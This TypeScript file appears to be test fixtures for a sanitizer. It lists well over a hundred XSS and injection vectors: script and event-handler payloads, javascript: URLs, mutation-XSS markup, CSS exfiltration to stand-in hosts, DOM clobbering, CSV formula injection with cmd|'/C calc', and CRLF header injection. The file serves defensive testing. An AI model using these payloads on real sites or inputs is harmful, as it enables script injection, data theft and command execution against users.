/**
 * Hostile strings (vectors), grouped by the attack that they try. `§` stands for the mark of a vector, such as
 * `v17v`: a script that runs calls `trip('v17v')`, a request goes to `v17v.xss.invalid`, and an element has `data-x`.
 * All vectors were written for this proof, from what specifications and browsers make possible.
 */

export interface Vector {
  mark: string;
  kind: string;
  text: string;
}

const RUN = "trip('§')";
const HOST = 'https://§.xss.invalid/';
/** The placeholder for a listener on this machine, which counts connections that do not use the proxy. */
const LISTENER = 'http://listener.xss.invalid/';
/** An image whose error handler runs as soon as the text becomes an element. */
const IMAGE = `<img data-x=1 src=x:§ onerror="${RUN}">`;
const BIDI = { rlo: '\u202e', lro: '\u202d', pdf: '\u202c', rli: '\u2067', fsi: '\u2068', pdi: '\u2069' };

const SHAPES: Record<string, readonly string[]> = {
  'script elements': [
    `<script data-x=1>${RUN}</script>`,
    `<SCRIPT data-x=1 type=module>${RUN}</SCRIPT>`,
    `<script data-x=1 src="${HOST}a.js"></script>`,
    `<script/data-x/src=data:text/javascript,${RUN}></script>`,
    `<scr<script>ipt data-x=1>${RUN}</scr</script>ipt>`,
    `<script data-x=1>${RUN}//`,
    `<script type="importmap" data-x=1>{"imports":{"a":"${HOST}"}}</script>`,
    `<script type=speculationrules data-x=1>{"prefetch":[{"source":"list","urls":["${HOST}"]}]}</script>`,
  ],
  'event handlers': [
    ...['onerror', 'ONERROR', 'oNeRrOr '].map((name) => `<img data-x=1 src=x:§ ${name}=${RUN}>`),
    `<body data-x=1 onload="${RUN}">`,
    `<video data-x=1><source onerror="${RUN}"></video>`,
    `<audio data-x=1 src=x:§ onerror="${RUN}">`,
    `<details data-x=1 open ontoggle="${RUN}">§</details>`,
    `<input data-x=1 autofocus onfocus="${RUN}">`,
    `<button data-x=1 autofocus onfocus="${RUN}">§</button>`,
    `<select data-x=1 autofocus onfocus="${RUN}"></select>`,
    `<div data-x=1 style="animation:a 1s" onanimationstart="${RUN}">§</div>`,
    `<marquee data-x=1 onstart="${RUN}">§</marquee>`,
    `<object data-x=1 data=x:§ onerror="${RUN}"></object>`,
    `<iframe data-x=1 onload="${RUN}"></iframe>`,
    `<img/data-x=1/src=x:§/onerror=${RUN}/>`,
    `<img data-x=1 src=x:§ onerror\n=\n"${RUN}">`,
    `<div data-x=1 popover onbeforetoggle="${RUN}" id=§>§</div><button popovertarget=§ autofocus>§</button>`,
    `<p data-x=1 oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">§</p>`,
  ],
  'svg and math': [
    `<svg data-x=1 onload="${RUN}">`,
    `<svg data-x=1><script>${RUN}</script></svg>`,
    `<svg data-x=1><script href="data:,${RUN}" /></svg>`,
    `<svg data-x=1><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    `<svg data-x=1><set attributeName=href to="javascript:${RUN}"><a id=§><text y=20>§</text></a></svg>`,
    `<svg data-x=1><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
    `<svg data-x=1><foreignObject>${IMAGE}</foreignObject></svg>`,
    `<svg data-x=1><image href="${HOST}i.png"/></svg>`,
    `<math data-x=1><maction actiontype="statusline#${HOST}" xlink:href="javascript:${RUN}">§</maction></math>`,
    `<math data-x=1 href="javascript:${RUN}">§</math>`,
  ],
  'hostile addresses': [
    `<a data-x=1 href="javascript:${RUN}">§</a>`,
    `<a data-x=1 href=" \u0001java\nscript:${RUN}">§</a>`,
    `<a data-x=1 href="JaVaScRiPt&colon;${RUN}">§</a>`,
    `<a data-x=1 href="&#106;avascript:${RUN}">§</a>`,
    `<a data-x=1 href="data:text/html,<script>${RUN}</script>">§</a>`,
    `<a data-x=1 href="vbscript:${RUN}">§</a>`,
    `<iframe data-x=1 src="javascript:top.${RUN}"></iframe>`,
    `<iframe data-x=1 src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
    `<embed data-x=1 src="javascript:${RUN}">`,
    `<object data-x=1 data="data:text/html;base64,PHNjcmlwdD50cmlwKDEpPC9zY3JpcHQ+">§</object>`,
    `<form data-x=1 action="javascript:${RUN}"><button autofocus>§</button></form>`,
    `javascript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `jAvAsCrIpT:/*\`/*'/*"/*/${RUN}//`,
    `//§.xss.invalid/`,
    `\\\\§.xss.invalid\\share`,
  ],
  'markup that changes when it is read again': [
    `<noscript><p title="</noscript>${IMAGE}">`,
    `<math><mtext><table><mglyph><style><!--</style>${IMAGE}-->`,
    `<svg><style><a title="</style>${IMAGE}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
    `<svg></p><style><g title="</style>${IMAGE}">`,
    `<table><a data-x=1><tr><td>${IMAGE}</table>`,
    `<select><template><style><!--</style>${IMAGE}--></template></select>`,
    `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
    `<p title="\`${IMAGE}\`">`,
    `<listing>&lt;img data-x=1 src=x:§ onerror=${RUN}&gt;</listing>`,
    `<svg><desc><style>/*</style>${IMAGE}*/</desc></svg>`,
    `&lt;img data-x=1 src=x:§ onerror=&quot;${RUN}&quot;&gt;`,
    `&amp;lt;script data-x=1&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  ],
  'documents in documents': [
    `<iframe data-x=1 srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe data-x=1 srcdoc="&lt;img src=x:§ onerror=top.${RUN}&gt;"></iframe>`,
    `<iframe data-x=1 srcdoc="<meta http-equiv=refresh content='0;url=${HOST}'>"></iframe>`,
    `<iframe data-x=1 src="${HOST}"></iframe>`,
    `<frameset data-x=1 onload="${RUN}"><frame src="${HOST}"></frameset>`,
    `<portal data-x=1 src="${HOST}"></portal>`,
    `<fencedframe data-x=1></fencedframe>§`,
    `<div data-x=1><template shadowrootmode=open>${IMAGE}</template></div>`,
  ],
  styles: [
    `<style data-x=1>@import "${HOST}a.css";</style>`,
    `<style data-x=1>*{background:url(${HOST}b.png)}</style>`,
    `<p data-x=1 style="background-image:url('${HOST}c.png')">§</p>`,
    `<style data-x=1>@font-face{font-family:x;src:url(${HOST}d.woff)}*{font-family:x}</style>`,
    `<link data-x=1 rel=stylesheet href="${HOST}e.css">`,
    `<style data-x=1>body{display:none}[value^=a]{background:url(${HOST}a)}</style>`,
    `<p data-x=1 style="position:fixed;inset:0;z-index:9999;background:red">§</p>`,
    `<p data-x=1 style="width:expression(${RUN});behavior:url(${HOST})">§</p>`,
    `};*{background:url(${HOST}f.png)}/*§`,
  ],
  'ways out of an element': [
    ...['title', 'textarea', 'noscript', 'template', 'style', 'script', 'xmp', 'iframe', 'noembed'].map(
      (name) => `</${name}>${IMAGE}`,
    ),
    `--><!-- -->${IMAGE}<!--`,
    `--!>${IMAGE}`,
    `]]>${IMAGE}<![CDATA[`,
    `<![CDATA[${IMAGE}]]>`,
    `<?xml version="1.0"?>${IMAGE}`,
    `<!DOCTYPE x [<!ENTITY § SYSTEM "${HOST}">]>${IMAGE}`,
    `<plaintext data-x=1>§`,
    `</body></html>${IMAGE}`,
    `</td></tr></table></div></main>${IMAGE}`,
  ],
  'what leads elsewhere': [
    `<meta data-x=1 http-equiv="refresh" content="0;url=${HOST}">`,
    `<meta data-x=1 http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta data-x=1 http-equiv="Content-Security-Policy" content="script-src 'none'">§`,
    `<meta data-x=1 http-equiv=set-cookie content="a=§">`,
    `<base data-x=1 href="${HOST}">`,
    `<form data-x=1 action="${HOST}" method=post><input autofocus name=a><button>§</button></form>`,
    `<button data-x=1 form=§ formaction="${HOST}">§</button>`,
    `<a data-x=1 href="${HOST}" target=_top>§</a>`,
    `<a data-x=1 href="${HOST}" target=_blank rel=opener>§</a>`,
    `<a data-x=1 href="/app" ping="${HOST}">§</a>`,
    `<link data-x=1 rel=prefetch href="${HOST}p"><link rel=preconnect href="${HOST}">`,
    `<link data-x=1 rel=dns-prefetch href="//§.xss.invalid">`,
    `<link data-x=1 rel=manifest href="${HOST}m.json">`,
    `<img data-x=1 src="${HOST}i.png" srcset="${HOST}2.png 2x">`,
    `<video data-x=1 poster="${HOST}p.png"><track src="${HOST}t.vtt"></video>`,
  ],
  connections: [
    `<p data-x=1>§<link rel=preconnect href="${LISTENER}"><img src="${LISTENER}i.png"></p>`,
    `<p data-x=1>§<link rel="dns-prefetch preconnect" href="${LISTENER}" crossorigin></p>`,
    `<p data-x=1>§<iframe srcdoc="<link rel=preconnect href=${LISTENER}>"></iframe></p>`,
    `<div data-x=1>§<template shadowrootmode=open><link rel=preconnect href="${LISTENER}"></template></div>`,
    `<p data-x=1>§<meta http-equiv=x-dns-prefetch-control content=on><a href="${LISTENER}">§</a></p>`,
    `<script type=speculationrules data-x=1>{"prerender":[{"source":"list","urls":["${LISTENER}§"]}]}</script>`,
  ],
  clobbering: [
    `<form data-x=1 id=document name=cookie><input name=getElementById>§</form>`,
    `<img data-x=1 name=currentScript><img name=body>§`,
    `<a data-x=1 id=trustedTypes href="x:§"></a>`,
    `<a data-x=1 id=__TSR_ROUTER__ href="${HOST}">§</a><a id=__TSR_ROUTER__ name=state>§</a>`,
    `<div data-x=1 id=root>§</div>`,
    `<form data-x=1 id=location name=href action="${HOST}">§</form>`,
    `__proto__[§]=1`,
    `constructor.prototype.§`,
    `{"__proto__":{"isAdmin":true,"mark":"§"}}`,
    `<iframe data-x=1 name=fetch srcdoc="§"></iframe>`,
  ],
  'ways out of an attribute': [
    `" autofocus onfocus="${RUN}" data-x="§`,
    `' autofocus onfocus='${RUN.replaceAll("'", '`')}' data-x='§`,
    `\` onerror=${RUN} data-x=1 \``,
    `"><script data-x=1>${RUN}</script>`,
    `'><script data-x=1>${RUN}</script>`,
    `">${IMAGE}<a title="`,
    `x" onmouseover=${RUN} style="position:fixed;inset:0" data-x="§`,
    `\n onload=${RUN} data-x=1 §`,
    `&quot; onerror=&quot;${RUN}&quot; data-x=&quot;§`,
    `\\" onerror=\\"${RUN}\\" data-x=\\"§`,
    `javascript:${RUN}//"><a href="javascript:${RUN}">`,
  ],
  'characters with tricks': [
    `\uff1cimg data-x=1 src=x onerror=${RUN}\uff1e`,
    `<\u200bscript data-x=1>${RUN}</script>`,
    `<\u00adimg data-x=1 src=x:§ onerror=${RUN}>`,
    `<img\u00a0data-x=1 src=x:§ onerror=${RUN}>`,
    `<img\u000cdata-x=1\u000csrc=x:§\u000conerror=${RUN}>`,
    `\u003cimg data-x=1 src=x:§ onerror=${RUN}\u003e`,
    `\\u003cscript data-x=1\\u003e${RUN}\\u003c/script\\u003e`,
    `\\x3cscript data-x=1\\x3e${RUN}\\x3c/script\\x3e`,
    `%3Cscript data-x=1%3E${RUN}%3C/script%3E`,
    `+ADw-script data-x+AD0-1+AD4-${RUN}+ADw-/script+AD4-`,
    `\u2028${RUN}\u2029//§`,
    `\ufeff<script data-x=1>${RUN}</script>`,
    `\u0130mg <\u017fcript data-x=1>${RUN}</\u017fcript>`,
    `a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c§`,
  ],
  'controls of direction': [
    `${BIDI.rlo}tpircs§<script data-x=1>${RUN}</script>`,
    `${BIDI.lro}§${BIDI.rlo}`,
    `${BIDI.rli}${BIDI.rli}${BIDI.rli}§`,
    `${BIDI.pdi}${BIDI.pdi}§${BIDI.pdf}`,
    `user@example.com${BIDI.rlo}§moc.elpmaxe`,
    `${BIDI.fsi}<b data-x=1>§${BIDI.pdi}</b>`,
    `§ \u05d0\u05d1 (${BIDI.rlo}gpj.exe`,
  ],
  'formulas of spreadsheets': [
    `=HYPERLINK("${HOST}","§")`,
    `=cmd|'/C calc'!§`,
    `+1+cmd|'/C calc'!§`,
    `-2+3+cmd|'/C calc'!§`,
    `@SUM(1+1)*§`,
    `\t=1+1§`,
    `\r=1+1§`,
    `'=1+1§`,
    `\uff1d1+1§`,
    `"=1+1§","=2"`,
    `§,=1+1`,
    `;=1+1;§`,
  ],
  'headers and lines': [
    `§\r\nSet-Cookie: dragoman=§`,
    `§\r\nLocation: ${HOST}`,
    `§\r\n\r\n<script data-x=1>${RUN}</script>`,
    `§\nBcc: everybody@xss.invalid`,
    `§"; filename="x.html`,
    `§%0d%0aSet-Cookie:%20a=b`,
    `§\u560d\u560aSet-Cookie: a=b`,
    `§>\r\nRCPT TO:<everybody@xss.invalid`,
  ],
  'data in scripts': [
    `</script><script data-x=1>${RUN}</script>`,
    `<!--<script>§`,
    `";${RUN};//`,
    `';${RUN.replaceAll("'", '"')};//`,
    `\\";${RUN};//`,
    `\${${RUN}}`,
    `{{constructor.constructor("${RUN}")()}}`,
    `*/${RUN}/*`,
    `[${RUN}]`,
  ],
  'links of markdown': [
    `[§](javascript:${RUN})`,
    `[§](data:text/html,%3Cscript%3E${RUN}%3C/script%3E)`,
    `![§](${HOST}i.png)`,
    `<javascript:${RUN}>`,
    `[§]: javascript:${RUN} "§"`,
    `[§](<javascript:${RUN}> "x")`,
    `[§](java&#115;cript:${RUN})`,
    `[§](${HOST} "onmouseover=${RUN}")`,
    `\`\`\`§"><script data-x=1>${RUN}</script>\n§\n\`\`\``,
    `# §${IMAGE}`,
  ],
  messages: [
    `{§}`,
    `{§, plural, one {#} other {#}}`,
    `{count, select, other {${IMAGE}}}`,
    `<b data-x=1>{§}</b>`,
    `'{'§'}' ''§''`,
    `{0} %s %1$s %n §`,
    `{§, date, ::yMMMd}`,
    `<a data-x=1>{§`,
  ],
};

export const VECTORS: readonly Vector[] = Object.entries(SHAPES)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, index) => {
    const mark = `v${index + 1}v`;
    return { mark, kind, text: text.includes('§') ? text.replaceAll('§', mark) : `${text} ${mark}` };
  });

export const KINDS: readonly string[] = Object.keys(SHAPES);

/** Returns the hostile strings with `LISTENER` replaced by `address`, the URL of the listener of this run. */
export function listeningAt(vectors: readonly Vector[], address: string): readonly Vector[] {
  return vectors.map((vector) => ({ ...vector, text: vector.text.replaceAll(LISTENER, address) }));
}

/** Returns `count` hostile strings, about the same number of each kind. */
export function someVectors(count: number): readonly Vector[] {
  const rank = new Map<Vector, number>();
  for (const of of Map.groupBy(VECTORS, ({ kind }) => kind).values()) {
    for (const [index, vector] of of.entries()) rank.set(vector, index);
  }
  return [...VECTORS].sort((one, other) => rank.get(one)! - rank.get(other)!).slice(0, count);
}
